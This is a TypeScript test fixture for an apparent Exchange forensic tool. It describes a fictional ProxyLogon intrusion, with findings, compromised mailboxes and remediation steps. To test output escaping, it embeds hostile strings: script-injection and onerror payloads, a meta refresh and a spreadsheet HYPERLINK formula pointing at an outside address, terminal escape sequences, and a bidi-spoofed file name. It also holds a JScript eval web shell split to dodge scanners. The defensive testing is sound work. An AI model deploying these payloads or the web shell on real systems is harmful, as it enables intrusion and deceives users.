import type { Assessment } from '../../src/model/assessment.ts'
import type { Answer, Question } from '../../src/model/answer.ts'
import type { LogGap, KindCoverage } from '../../src/model/coverage.ts'
import type { Finding } from '../../src/model/finding.ts'
import type { Stage } from '../../src/model/stages.ts'
import type { Locator } from '../../src/model/event.ts'
import type { Artifact } from '../../src/model/evidence.ts'

// An assessment of a server that never was, with every noun in it and with evidence that means harm: markup, escape
// sequences, characters that turn text around, endless values.

export const hostile = {
  script: '<script>document.title="owned"</script>',
  breakout: '</script><script>document.title="owned"</script><!--',
  image: '"><img src=x onerror="document.title=\'owned\'">',
  link: 'javascript:document.title="owned"',
  refresh: '<meta http-equiv="refresh" content="0;url=http://192.0.2.66/">',
  escape: '\u001b[31mred\u001b[0m\u001b]0;owned\u0007\u009b2J',
  bidi: 'gpj.\u202Eexe.ecalp\u2066\u200B\uFEFF',
  separators: 'one\u2028two\u2029three',
  formula: '=HYPERLINK("http://192.0.2.66/","owned")',
  long: `/owa/${'a'.repeat(10_000)}`,
  lines: 'first\r\nsecond\n| third | <b>',
  surrogate: 'half \ud83d pair',
} as const

// Put together here so that this file is not itself taken for a web shell.
export const shell = [
  '<script language="JScript" runat="server">function Page_Load(){ev',
  'al(Req',
  'uest["k1"],"unsa',
  'fe");}</script>',
].join('')

/** Compromised by ProxyLogon, mail of two people read. */
const plain = {
  scope: 'mailbox',
  names: [],
  items: null,
  operations: [],
  clients: [],
  days: [],
  ordinary: null,
  undetermined: [],
} as const

/** Until when the tables know what was published. */
const known = { builds: '2026-08-11', vulnerabilities: '2026-08-11' }

/** Of what has no time. */
const never = { first: null, last: null }

export const fixture: Assessment = {
  schema: 'postern-assessment/2',
  subjects: [
    {
      kind: 'page',
      name: 'aspnet_client/discover.aspx',
      is: 'yes',
      question: 'compromised',
      corroborated: true,
      signs: [
        { kind: 'use', strength: 'strong', finding: 'a1f3' },
        { kind: 'name', strength: 'weak', finding: 'a1f3' },
        { kind: 'provenance', strength: 'strong', finding: 'a1f3', tiedBy: 'page' },
      ],
      explanations: [],
      findings: ['a1f3'],
    },
    {
      kind: 'mailbox',
      name: 'a.archer@example.com',
      is: 'likely',
      question: 'mail-taken',
      corroborated: false,
      signs: [{ kind: 'reach', strength: 'strong', finding: 'a1f6' }],
      explanations: [],
      findings: ['a1f6'],
    },
    {
      kind: 'service',
      name: `Updater ${hostile.image}`,
      is: 'open-lead',
      question: 'compromised',
      corroborated: true,
      signs: [
        { kind: 'provenance', strength: 'weak', finding: 'a1fa' },
        { kind: 'name', strength: 'weak', finding: 'a1fa' },
      ],
      explanations: [
        { by: 'habit', strength: 'weak', answers: ['use'], statement: 'The same happened on 3 days or more.' },
      ],
      findings: ['a1fa'],
    },
    {
      kind: 'client',
      name: hostile.bidi,
      is: 'lead',
      question: 'targeted',
      corroborated: true,
      signs: [{ kind: 'content', strength: 'weak', finding: 'a1f7' }],
      explanations: [],
      findings: ['a1f7'],
    },
  ],
  server: {
    name: 'MAIL01',
    product: 'exchange-2016',
    builds: [
      {
        build: '15.1.2106.2',
        from: '2020-09-22T18:04:00.000Z',
        to: '2021-03-09T21:40:00.000Z',
        source: 'setup log',
        precision: 'cu',
      },
      {
        build: '15.1.2106.13',
        from: '2021-03-09T21:40:00.000Z',
        to: null,
        source: 'HttpProxy rows',
        precision: 'update',
      },
    ],
  },
  verdict: {
    is: 'compromised',
    sentence:
      'From 3 March 2021, 04:23 UTC, somebody used ProxyLogon to plant a web shell, ran commands as SYSTEM, and read two mailboxes; the fix came six days later, on 9 March. The shell file was still on disk when the evidence ends on 14 March. Whether stolen keys are in use cannot be known from these logs.',
    sure: true,
    open: ['still-there'],
    observed: {
      steps: { first: '2021-03-03T04:23:22Z', last: '2021-03-05T16:02:11Z' },
      attempts: { first: '2021-02-27T04:00:01Z', last: '2021-02-27T04:00:01Z' },
    },
    covers: { from: '2021-02-20T00:00:00Z', to: '2021-03-14T09:00:00Z', missingHours: 31 },
  },
  answers: answers(),
  campaigns: [
    {
      campaign: 'proxylogon-2021',
      name: 'ProxyLogon (March 2021)',
      assessed: true,
      reason: 'a finding of high level lies in its wave, and the build was open to it',
      exposureWindow: { from: '2021-02-20T00:00:00Z', to: '2021-03-09T21:40:00Z' },
      outsideLogs: { from: '2021-01-03T00:00:00Z', to: '2021-02-20T00:00:00Z' },
      answers: answers(),
    },
    {
      campaign: 'unknown',
      name: 'Any intrusion',
      general: true,
      assessed: true,
      reason: 'assessed for every server',
      exposureWindow: { from: '2021-02-20T00:00:00Z', to: '2021-03-14T23:00:00Z' },
      answers: answers().map((a) => ({ ...a, is: 'no-evidence' as const, because: [] })),
    },
    {
      campaign: 'proxyshell-2021',
      name: 'ProxyShell (August 2021)',
      assessed: false,
      reason: 'its wave begins after the end of the evidence',
      exposureWindow: null,
      answers: [],
    },
  ],
  exposure: {
    cves: [
      cve('CVE-2021-26855', [
        ['2020-09-22T18:04:00Z', '2021-03-09T21:40:00Z', 'open'],
        ['2021-03-09T21:40:00Z', null, 'fixed'],
      ]),
      cve('CVE-2021-27065', [
        ['2020-09-22T18:04:00Z', '2021-03-04T12:00:00Z', 'open'],
        ['2021-03-04T12:00:00Z', '2021-03-09T21:40:00Z', 'mitigated'],
        ['2021-03-09T21:40:00Z', null, 'fixed'],
      ]),
      cve(
        'CVE-2021-26857',
        [[null, null, 'unknown']],
        [
          {
            title: 'the Unified Messaging service is installed',
            is: 'unknown',
            why: hostile.script,
            from: [hostile.link],
          },
        ],
      ),
      cve('CVE-2022-41082', [['2021-03-09T21:40:00Z', null, 'open']]),
    ],
    known,
    patchedTooLate: true,
    protections: [
      {
        id: 'extended-protection',
        title: 'Extended Protection on the virtual directories',
        cves: [],
        is: 'not-met',
        why: `off or too weak on 2 of 20 virtual directories: ${hostile.image}`,
        from: ['C/Windows/System32/inetsrv/config/applicationHost.config', hostile.lines],
      },
      {
        id: 'emergency-mitigation',
        title: 'The Emergency Mitigation service is on',
        cves: [],
        is: 'unknown',
        why: 'no export of the server and the organization',
        from: [],
      },
    ],
    support: {
      product: 'Exchange Server 2016',
      update: 'CU18 Mar21SU',
      released: '2021-03-02',
      newestOfCu: 'CU18 Mar21SU (15.1.2106.13, 2021-03-02)',
      newest: 'CU23 Aug26SU (15.1.2507.72, 2026-08-11)',
      end: '2025-10-14',
      later: 'CU23 Aug26SU (15.1.2507.72, 2026-08-11)',
      is: 'supported',
    },
  },
  intrusions: [
    {
      id: 'c-1',
      campaign: 'proxylogon-2021',
      clients: ['203.0.113.77', '198.51.100.23'],
      first: '2021-03-03T04:23:22.370Z',
      last: '2021-03-05T16:02:11.000Z',
      stages: ['attempt', 'access', 'write', 'shell', 'execution', 'credentials', 'collection', 'cleanup'],
      findings: ['a1f0', 'a1f1', 'a1f2', 'a1f3', 'a1f4', 'a1f5', 'a1f6', 'a1f9'],
      attackChain: [
        'On 3 March 2021 at 04:23 UTC, 203.0.113.77 asked the server for its own name through /ecp/y.js and got an answer from the back end.',
        'Nine seconds later the same client opened an administrator session (status 241) without a password.',
        'At 04:24 UTC it changed the address of the offline address book to a line of script and exported the setting to aspnet_client/discover.aspx.',
        'At 04:31 UTC the file was requested from 198.51.100.23 and answered with status 200.',
        'From 04:33 UTC the web server started cmd.exe 14 times; one of the commands copied the memory of LSASS.',
        'On 4 March the mailboxes of two people were read through EWS by way of the same hole.',
      ],
      joinedBy: [
        'request id 8f1c2d3e',
        'client 203.0.113.77',
        'target aspnet_client/discover.aspx',
        'within 60 seconds',
      ],
      actors: [],
    },
    {
      id: 'c-2',
      campaign: 'proxylogon-2021',
      clients: ['192.0.2.10'],
      first: '2021-03-06T11:00:00.000Z',
      last: '2021-03-06T11:00:04.000Z',
      stages: ['recon', 'attempt'],
      findings: ['a1f7', 'a1f8'],
      attackChain: [
        `On 6 March a second client asked for ${hostile.script} and for ${hostile.bidi}; the server refused both.`,
      ],
      joinedBy: ['client 192.0.2.10'],
      actors: [],
    },
  ],
  findings: [
    finding('a1f0', 'attempt', 'Request with a ServerInfo anchor to the back end', '2021-03-03T04:23:22.370Z', {
      client: '203.0.113.77',
      target: 'localhost:444/autodiscover/autodiscover.xml',
      log: 'httpproxy-ecp',
      count: 3,
    }),
    finding(
      'a1f1',
      'access',
      'ECP session opened over server-side request forgery (status 241)',
      '2021-03-03T04:23:31.102Z',
      {
        client: '203.0.113.77',
        target: 'mail01:444/ecp/proxyLogon.ecp',
        log: 'httpproxy-ecp',
        is: 'yes',
        level: 'critical',
        confidence: 'high',
      },
    ),
    finding(
      'a1f2',
      'write',
      'Virtual directory set to an address that holds script',
      '2021-03-03T04:24:02.000Z',
      {
        client: '203.0.113.77',
        target: 'OAB (Default Web Site)',
        log: 'ecp-server',
        is: 'yes',
        level: 'critical',
        confidence: 'high',
        facts: { Cmdlet: 'Set-OabVirtualDirectory', ExternalUrl: `http://f/${shell}`, __proto__x: hostile.breakout },
      },
      [`2021-03-03T04:24:02.000Z,MAIL01,ECP.Request,S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/${shell}'`],
    ),
    finding('a1f3', 'shell', 'Page in aspnet_client answered 200', '2021-03-03T04:31:40.000Z', {
      client: '198.51.100.23',
      target: '/aspnet_client/discover.aspx',
      log: 'iis-frontend',
      count: 212,
      last: '2021-03-05T16:02:11.000Z',
      is: 'yes',
      level: 'critical',
      confidence: 'high',
      persistence: 'web-shell',
    }),
    finding('a1f4', 'execution', 'Command interpreter below the web server process', '2021-03-03T04:33:05.250Z', {
      user: 'NT AUTHORITY\\SYSTEM',
      target: 'cmd.exe /c whoami',
      log: 'windows-security',
      count: 14,
      is: 'yes',
      level: 'high',
      confidence: 'high',
      client: null,
    }),
    finding('a1f5', 'credentials', 'Memory of LSASS written by rundll32 comsvcs.dll', '2021-03-03T05:10:44.000Z', {
      user: 'NT AUTHORITY\\SYSTEM',
      target: 'C:\\windows\\temp\\lsass.dmp',
      log: 'windows-security',
      is: 'yes',
      level: 'critical',
      confidence: 'high',
      client: null,
    }),
    finding('a1f6', 'collection', 'Mailbox read through EWS as another person', '2021-03-04T01:12:00.000Z', {
      client: '203.0.113.77',
      user: 'a.archer@example.com',
      target: 'mail01:444/ews/exchange.asmx',
      log: 'ews',
      count: 431,
      last: '2021-03-04T03:55:09.000Z',
      accessMethod: 'EWS',
    }),
    finding(
      'a1f7',
      'recon',
      `Scanner ${hostile.image}`,
      '2021-03-06T11:00:00.000Z',
      {
        client: '192.0.2.10',
        target: hostile.long,
        log: 'iis-frontend',
        level: 'low',
        confidence: 'low',
        facts: { 'cs-user-agent': hostile.escape, 'cs-referer': hostile.link },
      },
      [hostile.breakout, hostile.escape, hostile.bidi, hostile.separators, hostile.long],
    ),
    finding('a1f8', 'attempt', 'Autodiscover request with an anchor to an outside host', '2021-03-06T11:00:04.000Z', {
      client: '192.0.2.10',
      target: `${hostile.link} ${hostile.refresh}`,
      log: 'httpproxy-autodiscover',
      level: 'medium',
      notes: ['own scanner: nightly vulnerability scan'],
    }),
    finding('a1f9', 'cleanup', 'Event log cleared', '2021-03-05T15:58:00.000Z', {
      user: hostile.bidi,
      target: hostile.formula,
      log: 'windows-system',
      level: 'high',
      client: null,
    }),
    finding('a1fa', 'context', `Back-end row of the machine account ${hostile.lines}`, null, {
      client: null,
      target: hostile.surrogate,
      log: 'iis-backend',
      level: 'informational',
    }),
  ],
  clients: [
    {
      client: '203.0.113.77',
      findings: ['a1f0', 'a1f3', 'a1f6'],
      found: 12,
      rows: 34_567,
      first: '2021-02-27T04:00:01Z',
      last: '2021-03-14T08:00:00Z',
      statuses: [30_000, 4_000, 500, 67],
      bytes: 123_456_789,
    },
    {
      client: hostile.script,
      findings: [],
      found: 1,
      rows: 2,
      first: null,
      last: null,
      statuses: [0, 0, 0, 0],
      bytes: 0,
    },
  ],
  requests: {
    rows: 1_234_567,
    clients: 4_321,
    agents: 210,
    paths: 3_456,
    beyond: { client: 0, agent: 0, path: 12, status: 0 },
    statuses: [
      {
        value: '200',
        rows: 1_200_000,
        first: '2021-02-27T00:00:00Z',
        last: '2021-03-14T08:00:00Z',
        statuses: [1_200_000, 0, 0, 0],
        bytes: 9_876_543_210,
      },
      { value: hostile.lines, rows: 3, first: null, last: null, statuses: [0, 0, 0, 0], bytes: 0 },
    ],
    rareAgents: [
      {
        value: hostile.script,
        client: hostile.lines,
        known: null,
        rows: 7,
        first: '2021-03-03T04:23:22Z',
        last: '2021-03-03T04:29:22Z',
        statuses: [7, 0, 0, 0],
        bytes: 0,
      },
    ],
    rarePages: [
      {
        value: `/aspnet_client/${hostile.surrogate}.aspx`,
        client: hostile.script,
        known: false,
        rows: 2,
        first: null,
        last: null,
        statuses: [1, 0, 1, 0],
        bytes: 12,
      },
    ],
  },
  mailboxes: [
    {
      ...plain,
      mailbox: 'a.archer@example.com',
      names: ['/o=Example/ou=Exchange/cn=Recipients/cn=archer'],
      certainty: 'named',
      accessMethods: ['EWS over SSRF'],
      first: '2021-03-04T01:12:00.000Z',
      last: '2021-03-04T03:55:09.000Z',
      requests: 431,
      bytes: 48_230_114,
      items: 96,
      operations: [
        ['GetItem', 400],
        ['FindItem', 31],
      ],
      clients: ['203.0.113.77'],
      days: [{ day: '2021-03-04', client: '203.0.113.77', requests: 431, bytes: 48_230_114 }],
      ordinary: {
        thisMailbox: {
          days: 20,
          requests: { median: 60, p95: 110, max: 150 },
          bytes: { median: 1_200_000, p95: 3_100_000, max: 3_500_000 },
        },
        organization: {
          days: 900,
          requests: { median: 45, p95: 230, max: 900 },
          bytes: { median: 800_000, p95: 9_100_000, max: 60_000_000 },
        },
        mailboxes: 44,
        beyond: 0,
        leads: [`203.0.113.77 with ${hostile.script}: not seen at this mailbox in 20 other days`],
      },
      because: ['a1f6'],
      undetermined: ['Which messages: the log names operations, and never an item.'],
    },
    {
      ...plain,
      mailbox: 'b.baker@example.com',
      certainty: 'joined',
      accessMethods: ['EWS over SSRF', 'export to a file'],
      first: '2021-03-04T02:40:00.000Z',
      last: '2021-03-04T02:58:30.000Z',
      requests: 57,
      bytes: 3_114_020,
      because: ['a1f6'],
    },
    {
      ...plain,
      mailbox: hostile.image,
      names: [hostile.formula],
      certainty: 'possible',
      accessMethods: [hostile.script],
      first: null,
      last: null,
      requests: 2,
      bytes: 0,
      because: ['no-such-finding'],
    },
    {
      ...plain,
      mailbox: 'any mailbox of MAIL01',
      scope: 'server',
      certainty: 'possible',
      accessMethods: ['ews'],
      first: '2021-03-05T01:00:00.000Z',
      last: '2021-03-05T01:10:00.000Z',
      requests: 9,
      bytes: 90_000,
      because: ['a1f6'],
      undetermined: ['Which mailbox: the EWS log of these hours is not in the evidence.'],
    },
  ],
  persistence: [
    {
      kind: 'web-shell',
      what: 'C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx',
      state: 'present',
      first: '2021-03-03T04:24:04.000Z',
      last: '2021-03-14T08:30:00.000Z',
      because: ['a1f2', 'a1f3'],
    },
    {
      kind: 'vdir',
      what: `OAB (Default Web Site): ExternalUrl ${shell}`,
      state: 'was-there',
      first: '2021-03-03T04:24:02.000Z',
      last: '2021-03-03T04:24:40.000Z',
      because: ['a1f2'],
    },
  ],
  actors: [
    {
      id: 'a1b2c3d4',
      actor: 'mass exploitation, actor unknown',
      words: 'likely',
      named: false,
      references: [],
      supporting: [
        'the shell and its password are shared by many intruders of that week',
        'first step after the exploit had spread (1 March)',
      ],
      contradicting: ['mailboxes were chosen by name, which mass exploitation seldom does'],
      intrusions: ['c-1'],
    },
    {
      id: 'b2c3d4e5',
      actor: 'HAFNIUM',
      words: 'unlikely',
      named: false,
      references: ['https://attack.mitre.org/groups/G0125/'],
      supporting: ['the same sequence of requests'],
      contradicting: [
        'no address, hash or tool of theirs was found',
        'the first step lies after the exploit was in several hands',
      ],
      intrusions: ['c-1'],
    },
  ],
  attribution: [
    'No actor is named. A name needs more than what was found in intrusion c-1.',
    'Nothing in the verdict depends on a name.',
  ],
  actions: [
    {
      id: 'preserve',
      order: 1,
      title: 'Keep the evidence before anything is changed',
      why: 'Logs rotate after 30 days; shells and memory are lost when the server is repaired.',
      how: ['Take an image of the disks and of the memory.', 'Copy-Item -Recurse C:\\inetpub\\logs D:\\case\\iis'],
      sideEffects: ['The image needs as much space as the disks.'],
      affected: [],
      verify: [],
      because: ['a1f3', 'a1f5'],
    },
    {
      id: 'isolate',
      order: 2,
      title: 'Take the server off the internet',
      why: 'The shell can be used as long as port 443 is reachable.',
      how: [
        'New-NetFirewallRule -DisplayName "Postern: block web" -Direction Inbound -Protocol TCP -LocalPort 80,443 -Action Block',
      ],
      sideEffects: ['Outlook on the web, phones and mail from outside stop.'],
      affected: [],
      verify: [],
      because: ['a1f3'],
    },
    {
      id: 'passwords',
      order: 3,
      title: 'Renew every secret that the server held',
      why: 'The memory of LSASS was copied: all passwords and tickets in it count as known.',
      how: [
        'Reset the krbtgt account twice, ten hours apart.',
        'Reset the passwords of all administrators who were logged on since 3 March.',
      ],
      sideEffects: ['Everybody has to log on again.'],
      affected: [{ subject: 'credentials', what: 'Memory of LSASS was copied', is: null, because: ['a1f5'] }],
      verify: ['No logon with an old password succeeds.'],
      because: ['a1f5'],
    },
    {
      id: 'report',
      order: 4,
      title: 'Tell the supervisory authority within 72 hours of learning of it',
      why: 'Mail of two people was read: a breach of personal data.',
      how: [],
      sideEffects: [],
      affected: [],
      verify: [],
      because: ['a1f6'],
    },
  ],
  duties: [
    {
      id: 'law-1',
      law: 'Law of Example, Article 1',
      appliesTo: 'controllers of personal data',
      notify: 'the authority of Example',
      deadline: '72 hours',
      from: 'becoming aware',
      note: 'Later: with the reasons.',
      source: 'https://law.example/1',
    },
  ],
  coverage: {
    first: '2021-02-20T00:00:03.000Z',
    last: '2021-03-14T08:59:58.000Z',
    blindSpots: [],
    kinds: kinds(),
    unknown: [
      { path: 'C/temp/notes.bin', size: 12_288 },
      { path: `C/temp/${hostile.script}.dat`, size: 3 },
    ],
    gaps: [
      {
        path: 'C/inetpub/logs/LogFiles/W3SVC1/u_ex210305.log',
        offset: 1_048_576,
        length: 65_536,
        reason: 'nul-tail',
        detail: 'zeros from here to the end',
        after: Date.UTC(2021, 2, 5, 2),
        before: Date.UTC(2021, 2, 5, 11),
      },
      {
        path: 'C/inetpub/logs/LogFiles/W3SVC1/u_ex210306.log',
        offset: 2048,
        length: 120,
        reason: 'corrupt',
        detail: `15 values for 14 fields ${hostile.escape}`,
        line: 17,
      },
      {
        path: 'C/Windows/System32/winevt/Logs/Security.evtx',
        offset: 0,
        length: 20_975_616,
        reason: 'unsupported',
        detail: 'binary event log: export it as JSON or XML',
      },
      { path: 'backup.zip', offset: 0, length: 512, reason: 'encrypted', detail: 'the archive asks for a password' },
    ],
  },
  evidence: {
    manifest: manifest(),
    files: 6,
    bytes: 78_500_427,
    gaps: [
      { reason: 'nul-tail', count: 1, bytes: 65_536 },
      { reason: 'corrupt', count: 1, bytes: 120 },
      { reason: 'unsupported', count: 1, bytes: 20_975_616 },
      { reason: 'encrypted', count: 1, bytes: 512 },
    ],
    notes: [`C/$Extend/$J: sparse file without its holes ${hostile.script}`],
  },
  thirdPartyResults: [
    {
      tool: 'Test-ProxyLogon',
      reported: 'CVE-2021-26855',
      level: 'high',
      about: '203.0.113.177',
      time: '2021-03-03T04:23:22.000Z',
      is: 'agrees',
      why: 'Postern has findings about the same address at that time.',
      because: [],
      path: 'MAIL01-Cve-2021-26855.csv',
      line: 2,
    },
    {
      tool: `Safety Scanner ${hostile.script}`,
      reported: `Backdoor:ASP/Sample ${hostile.escape}`,
      level: null,
      about: 'C:\\inetpub\\wwwroot\\x.aspx',
      time: null,
      is: 'only-theirs',
      why: 'The file is not in the evidence, and no other trace of it was found.',
      because: [],
      path: 'msert.log',
      line: 9,
    },
  ],
  knowledge: {
    tool: '0.1.0',
    sha256: 'cd'.repeat(32),
    bundle: null,
    tables: [{ table: 'fixes.csv', sha256: 'ef'.repeat(32) }],
    packs: [{ pack: 'proxylogon-2021', name: 'ProxyLogon', sha256: 'ab'.repeat(32), rules: 34 }],
    brokenRules: [
      {
        file: 'rules/mine.yml',
        line: 4,
        column: 7,
        reason: 'broken',
        detail: `expected a list, found ${hostile.script}`,
      },
    ],
    options: { timezone: 'Europe/Vienna', window: '2021-02-01..2021-03-31' },
  },
  degraded: false,
  incomplete: false,
}

/** Nothing found in logs that reach all the way. */
export const quiet: Assessment = {
  ...fixture,
  verdict: {
    is: 'no-evidence',
    sentence:
      'No trace of ProxyLogon was found on the 22 days from 20 February to 14 March 2021 (UTC), which the logs cover whole.',
    sure: true,
    open: [],
    observed: { steps: never, attempts: never },
    covers: { from: '2021-02-20T00:00:00Z', to: '2021-03-14T09:00:00Z', missingHours: 0 },
  },
  answers: answers().map((a) => ({
    ...a,
    is: a.question === 'exposed' ? 'yes' : 'no-evidence',
    because:
      a.question === 'exposed'
        ? ['exposure: build 15.1.2106.2 was open to CVE-2021-26855 until 9 March 2021']
        : ['coverage: HttpProxy of all protocols, all 537 hours'],
    sentence: 'No trace stands in the logs, which reach all the way.',
    coverage: { from: '2021-02-20T00:00:00Z', to: '2021-03-14T09:00:00Z', covered: 537, of: 537, missing: [] },
    missingEvidence: [],
  })),
  campaigns: [],
  subjects: [],
  exposure: { known, cves: [], patchedTooLate: false, protections: [], support: null },
  intrusions: [],
  findings: [],
  clients: [],
  requests: {
    rows: 0,
    clients: 0,
    agents: 0,
    paths: 0,
    beyond: { client: 0, agent: 0, path: 0, status: 0 },
    statuses: [],
    rareAgents: null,
    rarePages: null,
  },
  mailboxes: [],
  persistence: [],
  actors: [],
  attribution: [],
  actions: [],
  thirdPartyResults: [],
  coverage: { ...fixture.coverage, kinds: kinds().map((k) => ({ ...k, gaps: [] })), gaps: [], unknown: [] },
  evidence: { ...fixture.evidence, gaps: [], notes: [] },
  knowledge: { ...fixture.knowledge, brokenRules: [], options: {} },
}

/** Evidence in which nothing was recognized. */
export const empty: Assessment = {
  ...quiet,
  server: { name: 'FOLDER', product: 'none', builds: [] },
  verdict: {
    is: 'cannot-tell',
    sentence: 'Nothing in this evidence comes from an Exchange server.',
    sure: true,
    open: ['targeted', 'exploited', 'compromised', 'mail-taken', 'still-there'],
    observed: { steps: never, attempts: never },
    covers: { from: null, to: null, missingHours: 0 },
  },
  answers: answers().map((a) => ({
    ...a,
    is: 'cannot-tell',
    because: [],
    contradictions: [],
    sentence: 'No log of the kinds that would show it was given.',
    coverage: { from: null, to: null, covered: 0, of: 0, missing: [] },
    missingEvidence: ['the HttpProxy logs of the server'],
  })),
  exposure: { known, cves: [], patchedTooLate: null, protections: [], support: null },
  coverage: { first: null, last: null, kinds: [], unknown: [], gaps: [], blindSpots: [] },
  evidence: { manifest: [], files: 0, bytes: 0, gaps: [], notes: [] },
  degraded: true,
  incomplete: true,
}

/** The fixture with so many findings of a scan. */
export function busy(findings: number): Assessment {
  const scan = Array.from({ length: findings }, (_, i) => {
    const time = new Date(Date.UTC(2021, 1, 20) + i * 37_000).toISOString()
    return finding(`s${i}`, 'recon', 'Internet scan', time, {
      client: `198.51.100.${i % 250}`,
      level: 'low',
      log: 'iis-frontend',
      target: `/owa/${i}`,
    })
  })
  return { ...fixture, findings: [...fixture.findings, ...scan] }
}

function answers(): readonly Answer[] {
  const to = '2021-03-09T21:40:00Z'
  return [
    answer(
      'exposed',
      'yes',
      'Build 15.1.2106.2 was open to CVE-2021-26855 and -27065 until 9 March 2021, 21:40 UTC.',
      ['exposure: build 15.1.2106.2 lacks the update of March 2021 (setup log, HttpProxy rows)'],
      [],
      0,
      0,
      to,
    ),
    answer(
      'targeted',
      'yes',
      'Exploit requests reached the server from 3 March 2021 on.',
      ['a1f0', 'a1f8'],
      [],
      398,
      429,
      to,
    ),
    answer(
      'exploited',
      'yes',
      'An administrator session was opened without a password and a setting was changed.',
      ['a1f1', 'a1f2'],
      [{ checked: 'the same session id in other logs', found: 'the ECP Server row of the same second names it' }],
      398,
      429,
      to,
    ),
    answer(
      'compromised',
      'yes',
      'A web shell was planted and answered; commands ran as SYSTEM; the memory of LSASS was copied.',
      ['a1f3', 'a1f4', 'a1f5'],
      [{ checked: 'whether the page belongs to Exchange', found: 'its name and hash are in no known version' }],
      506,
      537,
      '2021-03-14T09:00:00Z',
    ),
    answer(
      'mail-taken',
      'likely',
      'Mail of two people was probably read through EWS; missing: the back-end EWS log after 8 March.',
      ['a1f6'],
      [{ checked: 'whether a backup program reads these mailboxes', found: 'no row of one' }],
      391,
      537,
      '2021-03-14T09:00:00Z',
      ['the EWS logs of 8 to 14 March 2021', hostile.script],
    ),
    answer(
      'still-there',
      'cannot-tell',
      'The shell was on disk at the end. Tasks, services and accounts cannot be known: no Windows event log was readable.',
      ['coverage: web roots seen at the end; windows-taskscheduler, windows-system missing', 'a1f3'],
      [],
      0,
      1,
      '2021-03-14T09:00:00Z',
      [
        'Security.evtx and System.evtx, exported as JSON',
        'the list of scheduled tasks and services',
        'the mailbox rules of all people',
      ],
    ),
  ]
}

function answer(
  question: Question,
  is: 'yes' | 'likely' | 'cannot-tell',
  sentence: string,
  because: readonly string[],
  against: Answer['contradictions'],
  covered: number,
  of: number,
  to: string,
  wouldChange: readonly string[] = [],
): Answer {
  const missing = covered < of ? [{ from: '2021-03-05T02:00:00Z', to: '2021-03-05T11:00:00Z' }] : []
  return {
    question,
    is,
    because,
    sentence,
    contradictions: against,
    coverage: { from: '2021-02-20T00:00:00Z', to, covered, of, missing },
    missingEvidence: wouldChange,
  }
}

function cve(
  id: string,
  intervals: readonly (readonly [string | null, string | null, 'open' | 'fixed' | 'mitigated' | 'unknown'])[],
  conditions: Assessment['exposure']['cves'][number]['conditions'] = [],
): Assessment['exposure']['cves'][number] {
  const last = intervals.at(-1)![2]
  return {
    cve: id,
    alias: id === 'CVE-2021-26855' ? 'ProxyLogon' : '',
    impact: 'Remote Code Execution',
    published: id === 'CVE-2022-41082' ? '2022-11-08' : '2021-03-02',
    exploited: id !== 'CVE-2022-41082',
    state: last,
    intervals: intervals.map(([from, to, state]) => ({ from, to, state, source: 'build history' })),
    fixedBy: last === 'unknown' || last === 'open' ? null : 'update of March 2021',
    remedy: last === 'open' ? 'no update for CU18; first in CU22 Nov22SU (15.1.2375.37)' : null,
    conditions,
    mitigations: last === 'open' ? [`rewrite rule ${hostile.breakout}`] : [],
  }
}

function finding(
  id: string,
  stage: Stage,
  title: string,
  time: string | null,
  more: Partial<Finding>,
  raws?: readonly string[],
): Finding {
  const rows = raws ?? [`${time ?? '-'} ${more.client ?? '-'} GET ${more.target ?? '/'} 200 0 0 15`]
  return {
    id,
    rule: `rule-${stage}`,
    title,
    author: 'The authors of Postern',
    license: 'Apache-2.0',
    pack: 'proxylogon-2021',
    campaign: 'proxylogon-2021',
    stage,
    sign: { subject: 'request', kind: 'content', strength: 'strong' },
    level: 'medium',
    confidence: 'medium',
    is: 'lead',
    time,
    timeBasis: time === null ? 'file' : 'format',
    client: null,
    user: null,
    target: null,
    log: 'iis-frontend',
    host: 'MAIL01',
    cves: ['CVE-2021-26855'],
    attack: ['T1190'],
    falsePositives: ['a vulnerability scan that the organization ordered'],
    nextSteps: ['read the rows of the same client one minute before and after'],
    count: 1,
    first: time,
    last: time,
    locators: rows.map((raw, i) => locator(raw, i)),
    intrusion: id === 'a1f7' || id === 'a1f8' ? 'c-2' : id.startsWith('a1f') ? 'c-1' : null,
    notes: [],
    facts: { 'sc-status': 200, ActAsUser: null },
    persistence: null,
    accessMethod: null,
    ...more,
  }
}

function locator(raw: string, i: number): Locator {
  return {
    artifact: 'cd'.repeat(32),
    path: 'C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log',
    line: 812 + i,
    offset: 90_210 + 400 * i,
    length: raw.length,
    raw,
  }
}

function kinds(): readonly KindCoverage[] {
  const hole: LogGap = {
    from: '2021-03-05T02:00:00Z',
    to: '2021-03-05T11:00:00Z',
    reason: 'no entries for 9 hours; the file ends in zeros',
  }
  return [
    kind('iis-frontend', 'IIS, front end (Default Web Site)', 0, 23, 48_000, [hole]),
    kind('iis-backend', 'IIS, back end (Exchange Back End, port 444)', 0, 23, 31_000, []),
    kind('httpproxy-ecp', 'HttpProxy ECP', 0, 23, 900, []),
    kind('httpproxy-ews', 'HttpProxy EWS', 0, 16, 22_000, [
      { from: '2021-02-27T13:00:00Z', to: '2021-02-28T11:00:00Z', reason: 'rotation number 2021022714 is missing' },
    ]),
    kind('ecp-server', 'ECP Server', 0, 23, 120, []),
    kind('ews', 'EWS (back end)', 0, 16, 21_000, []),
    kind('windows-security', 'Windows Security events', 10, 23, 150_000, []),
    kind('web-roots', 'Files of the web roots', 22, 23, 412, []),
  ]
}

function kind(
  name: string,
  title: string,
  fromDay: number,
  toDay: number,
  perDay: number,
  holes: readonly LogGap[],
): KindCoverage {
  const days = Array.from({ length: toDay - fromDay }, (_, i) => {
    const date = new Date(Date.UTC(2021, 1, 20 + fromDay + i)).toISOString().slice(0, 10)
    return [date, Math.round(perDay * (0.35 + ((i * 7 + fromDay) % 5) / 6))] as const
  })
  const at = (d: number): string => new Date(Date.UTC(2021, 1, 20 + d)).toISOString()
  const entries = days.reduce((sum, [, n]) => sum + n, 0)
  return {
    kind: name,
    title,
    files: toDay - fromDay,
    bytes: entries * 420,
    entries,
    first: at(fromDay),
    last: at(toDay),
    hours: (toDay - fromDay) * 24,
    gaps: holes,
    days,
  }
}

function manifest(): readonly Artifact[] {
  const file = (path: string, size: number, parser: string | null, parsed: number, events: number): Artifact => ({
    path,
    windowsPath: path.startsWith('C/') ? path.replace('C/', 'C:\\').replaceAll('/', '\\') : null,
    size,
    sha256: 'cd'.repeat(32),
    modified: null,
    parser,
    kinds: parser === 'iis' ? ['iis-frontend'] : [],
    parsed,
    events,
